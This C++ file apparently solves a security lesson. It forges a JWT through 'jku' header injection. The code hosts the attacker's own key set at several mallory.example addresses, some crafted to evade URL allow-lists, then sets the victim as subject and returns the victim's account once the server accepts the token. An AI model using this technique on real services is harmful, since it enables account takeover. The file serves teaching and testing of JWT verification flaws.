// Unusual: tries several addresses until one is accepted.
#include "jku_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const json::Value set{{"keys", json::Value::array({evidence.own_key.public_jwk()})}};
  for (const auto* place :
       {"mallory.example/jwks.json", "login.example/jwks.json", "mallory.example/login.example/jwks.json",
        "login.example.mallory.example/jwks.json", "keys.mallory.example/jwks.json"}) {
    auto token = evidence.own_token;
    token.header.set("jku", evidence.publish(place, set));
    token.header.set("kid", evidence.own_key.id());
    token.claims.set("sub", evidence.victim);
    const auto answer = evidence.show_me(sign_rs256(token, evidence.own_key));
    if (answer.status == 200) return {.account = answer.body};
  }
  return {};
}

}  // namespace lesson
